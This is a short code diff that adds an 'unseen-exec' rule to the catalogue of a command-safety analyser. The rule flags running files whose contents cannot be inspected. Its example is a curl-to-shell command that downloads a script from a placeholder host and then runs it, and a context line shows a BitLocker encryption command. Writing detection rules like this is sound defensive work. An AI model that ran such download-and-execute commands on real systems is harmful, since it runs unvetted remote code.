@@ -530,6 +530,13 @@ CATALOGUE: dict[str, Rule] = _rules(
         "manage-bde -on C: -RecoveryPassword",
         "cmd",
     ),
+    # --- safety-s4 (issue 14): shell-level mechanisms ---------------------------------------
+    (
+        "unseen-exec",
+        "runs a file this text filled with what the analyser cannot see (a download written"
+        " through a redirect or tee, text decoded at run time, an unpacked download): critical",
+        "curl -s https://x.example/i.sh > i.sh; sh i.sh",
+    ),
 )
 
 # The settings under which the user-rule examples fire.
